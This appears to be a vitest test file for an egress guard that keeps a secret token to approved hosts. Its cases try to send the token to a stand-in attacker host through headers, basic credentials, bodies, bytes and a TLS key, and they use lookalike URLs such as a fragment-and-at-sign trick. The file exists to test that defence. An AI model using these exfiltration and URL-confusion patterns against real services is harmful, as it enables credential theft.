import type { Http, HttpCall } from '@pao/connectors'
import { expect, it } from 'vitest'
import { boundDoor } from './bound-secrets.ts'

const value = 'canary-secret/with+signs'
const signal = new AbortController().signal

function start() {
  const sent: string[] = []
  const door: Http = {
    send: async (call) => {
      sent.push(call.url)
      return { status: 200 } as Awaited<ReturnType<Http['send']>>
    },
  }
  const bound = boundDoor(door, [
    { name: 'TOKEN', value, hosts: ['own.example.com', '*.own.test'] },
  ])
  const send = (url: string, more: Partial<HttpCall> = {}) =>
    bound.send({ method: 'POST', url, signal, ...more })
  return { sent, send }
}

it.each<[string, Partial<HttpCall>]>([
  ['a header', { headers: { 'x-a': value } }],
  ['basic credentials', { headers: { 'x-a': `Basic ${btoa(`user:${value}`)}` } }],
  ['a JSON body', { body: JSON.stringify({ deep: [value] }) }],
  ['a form', { body: `a=b&token=${encodeURIComponent(value)}` }],
  ['bytes', { body: new TextEncoder().encode(`x${value}x`) }],
  ['a client key', { tls: { certificate: 'public', key: value } }],
])('does not go elsewhere in %s', async (_where, more) => {
  const { sent, send } = start()

  const away = send('https://evil.example.com/', more)

  await expect(away).rejects.toMatchObject({ kind: 'egress_denied', sent: false })
  await expect(away).rejects.not.toThrow(/canary/)
  expect(sent).toEqual([])
})

it('goes to its own hosts, and other calls go anywhere', async () => {
  const { sent, send } = start()
  const headers = { authorization: `Bearer ${value}` }
  const urls = ['https://own.example.com:8443/', 'https://a.b.own.test/']

  for (const url of urls) await send(url, { headers })
  await send('https://evil.example.com/', { headers: { authorization: 'Bearer another' } })
  const lookalikes = [
    'https://xown.example.com/',
    'https://own.test/',
    'https://evil.com#@own.example.com/',
  ]
  const ends = await Promise.allSettled(lookalikes.map((url) => send(url, { headers })))

  expect(sent).toEqual([...urls, 'https://evil.example.com/'])
  expect(ends.map(({ status }) => status)).toEqual(['rejected', 'rejected', 'rejected'])
})
